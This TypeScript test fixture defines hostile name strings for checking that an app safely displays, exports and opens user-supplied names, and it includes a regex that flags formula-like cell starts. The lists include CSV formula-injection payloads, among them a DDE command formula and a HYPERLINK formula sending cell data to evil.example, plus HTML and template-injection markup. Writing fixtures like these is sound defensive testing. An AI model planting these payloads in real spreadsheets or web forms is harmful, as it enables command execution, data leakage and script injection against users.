/** Names and texts that somebody could choose to harm whoever reads, prints, exports or opens them. */
export const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"Amelia Potter")',
  "=cmd|' /C calc'!A0",
  '+447700900123*1',
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\u202e=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  'Amelia\n=1+1',
  'Amelia\r\n@SUM(1)',
  "'=1+1",
  'a","=1+1',
  'a;=1+1',
  'a\t=1+1',
] as const

export const MARKUP = [
  '<img src=x onerror="window.attacked=1">',
  '<script>window.attacked=1</script>',
  '"><svg onload=window.attacked=1>',
  '</title></style></textarea><iframe src="javascript:window.attacked=1">',
  '{{constructor.constructor("window.attacked=1")()}}',
  'javascript:window.attacked=1',
  '&lt;b&gt;Amelia&lt;/b&gt;',
] as const

export const CONFUSING = [
  '\u202eretteP ailemA',
  'A\u200bm\u200be\u200bl\u200bi\u200ba Potter',
  'Аmelia Potter',
  `A${'\u0335\u0322\u0363'.repeat(60)}melia`,
  'x'.repeat(10_000),
  '\ud800 half a letter',
  '__proto__',
  'constructor',
  'You',
  '(You)',
  '',
] as const

export const HOSTILE: readonly string[] = [...FORMULAS, ...MARKUP, ...CONFUSING]

/** Formulas that a page shows like another one of the list, or that differ from one only in their sign. */
const ALIKE: readonly string[] = [
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  'Amelia\r\n@SUM(1)',
  'a;=1+1',
  'a\t=1+1',
]

/** Of each kind, for where every name is a person in a call, which takes its time. Nobody can come in without any name. */
export const EACH_KIND: readonly string[] = HOSTILE.filter(
  (name) => name !== '' && !ALIKE.includes(name),
)

/**
 * What a spreadsheet could take for a formula: also behind spaces and unseen characters, and at the start of a line inside the cell.
 */
export const RUNS =
  /(?:^|[\r\n])[\s\u00ad\u061c\u180e\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]*[=+\-@＝＋－＠]/u
